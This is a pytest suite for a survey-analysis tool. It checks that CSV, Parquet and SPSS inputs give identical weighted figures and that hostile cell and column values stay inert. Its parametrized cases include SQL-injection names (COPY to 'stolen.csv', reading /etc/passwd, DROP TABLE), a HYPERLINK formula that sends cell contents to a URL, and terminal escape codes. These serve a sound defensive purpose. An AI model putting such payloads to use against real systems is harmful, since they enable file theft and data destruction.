"""The three kinds of file give the same figures; what is in them is never run, and does not reach the screen raw."""

import json
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pytest

from tests.survey.analysing.commands import as_csv, as_sav, exact, told

DESIGN = ("--weight", "w", "--strata", "area", "--psu", "school")
ASKED = (*DESIGN, "--items", "worry,told", "--by", "sex", "--model", "worry ~ sex + age")


def survey() -> dict[str, list[Any]]:
    """400 children of 20 schools in 2 areas; -7 and None are missing, and so is 99 where the file says so."""
    chance = np.random.default_rng(11)
    school = np.repeat(np.arange(20), 20)
    age = chance.integers(11, 17, 400)
    worry = (chance.random(400) < 0.3 + 0.02 * (school % 5)).astype(int).astype(object)
    worry[::17], worry[5::29] = None, -7
    return {
        "worry": worry.tolist(),
        "told": chance.integers(0, 2, 400).tolist(),
        "sex": chance.integers(1, 3, 400).tolist(),
        "age": age.tolist(),
        "w": chance.uniform(0.5, 3, 400).tolist(),
        "area": (school // 10 + 1).tolist(),
        "school": school.tolist(),
    }


def as_parquet(path: Path, columns: dict[str, list[Any]], *, words: bool = False) -> Path:
    made = as_csv(path.with_suffix(".csv"), columns)
    with duckdb.connect() as duck:
        duck.read_csv(str(made), all_varchar=words).write_parquet(str(path))
    return path


def without_file(found: dict[str, Any]) -> str:
    return json.dumps({key: value for key, value in found.items() if key != "file"})


def test_csv_parquet_and_spss_give_the_same_figures(tmp_path: Path) -> None:
    columns = survey()
    expected = exact(as_csv(tmp_path / "a.csv", columns), *ASKED)
    assert expected["figures"][0]["n"] == sum(value in (0, 1) for value in columns["worry"])
    assert len(expected["model"]["coefficients"]) == 3
    declared = [99.0 if value == -7 else value for value in columns["worry"]]
    files = (
        as_parquet(tmp_path / "b.parquet", columns),
        as_sav(tmp_path / "c.sav", columns, {}),
        as_sav(tmp_path / "d.sav", columns | {"worry": declared}, {"worry": [99.0]}),
    )
    for file in files:
        assert without_file(exact(file, *ASKED)) == without_file(expected), file.name


def test_a_reserved_code_is_missing_and_another_negative_number_is_an_answer(tmp_path: Path) -> None:
    file = as_csv(tmp_path / "a.csv", {"q": [1, 0, -8, -4, -9, -3, "", "NA", 1]})
    assert exact(file, "--items", "q")["figures"][0]["n"] == 5


def test_texts_are_a_yes_and_groups(tmp_path: Path) -> None:
    columns = {"q": ["Yes", "No", "Yes", ""] * 10, "g": ["b", "a", "a", "b"] * 10}
    for file in (as_csv(tmp_path / "a.csv", columns), as_parquet(tmp_path / "b.parquet", columns, words=True)):
        found = exact(file, "--items", "q", "--yes", "Yes", "--by", "g")
        assert [(one["group"], one["n"], one["yes"]) for one in found["figures"]] == [
            ("", 30, 20),
            ("a", 20, 10),
            ("b", 10, 10),
        ]


@pytest.mark.parametrize(
    "name",
    [
        "a\"; COPY (SELECT 1) TO 'stolen.csv'; --",
        "read_text('/etc/passwd')",
        "'; DROP TABLE x; --",
        "a.b.c",
        "a, b",
        "select",
        "../x",
    ],
)
def test_a_hostile_name_is_the_name_of_a_column(tmp_path: Path, name: str) -> None:
    file = as_csv(tmp_path / "a.csv", {name: [1, 0] * 30, "other": [0, 0] * 30})
    quoted = '"' + name.replace('"', '""') + '"'
    found = exact(file, "--items", quoted)
    assert (found["figures"][0]["item"], found["figures"][0]["p"]) == (name, 0.5)
    assert [one.name for one in tmp_path.iterdir()] == ["a.csv"]


def test_a_formula_in_a_cell_is_a_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.org/"&A1)'
    file = as_csv(tmp_path / "a.csv", {"q": [1, 0] * 40, "g": [formula, "plain", "plain", formula] * 20})
    assert [one["group"] for one in exact(file, "--items", "q", "--by", "g")["figures"]] == ["", formula, "plain"]


def test_a_cell_cannot_colour_or_move_what_is_on_the_screen(tmp_path: Path) -> None:
    file = as_csv(tmp_path / "a.csv", {"q": [1, 0] * 60, "g": ["\x1b[2J\x07evil", "x", "x", "\x1b[2J\x07evil"] * 30})
    text = told(file, "--items", "q", "--by", "g", "--unsafe")
    assert "?[2J?evil" in text
    assert all(one.isprintable() or one == "\n" for one in text)
    assert "\x1b" not in told(file, "--items", "q", "--by", "g", "--json")


def test_tables_fit_a_hundred_columns(tmp_path: Path) -> None:
    columns = survey()
    columns["a_question_with_a_very_long_name_" * 4] = columns.pop("worry")
    file = as_csv(tmp_path / "a.csv", columns)
    item = next(reversed(columns))
    for more in ((), ("--unsafe",)):
        text = told(file, *DESIGN, "--items", item, "--by", "sex", "--model", f"{item} ~ C(sex) + age", *more)
        assert max(len(line) for line in text.splitlines()) <= 100


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_the_usual_separators_and_quotes_are_understood(tmp_path: Path, separator: str) -> None:
    file = tmp_path / "a.csv"
    lines = [["q", '"a, b; c"'], *([["1", '"say ""no"", please"'], ["0", "yes"]] * 30)]
    file.write_bytes(b"\xef\xbb\xbf" + "\r\n".join(separator.join(line) for line in lines).encode())
    found = exact(file, "--items", "q", "--by", "a, b; c")
    assert [(one["group"], one["p"]) for one in found["figures"]] == [("", 0.5), ('say "no", please', 1), ("yes", 0)]
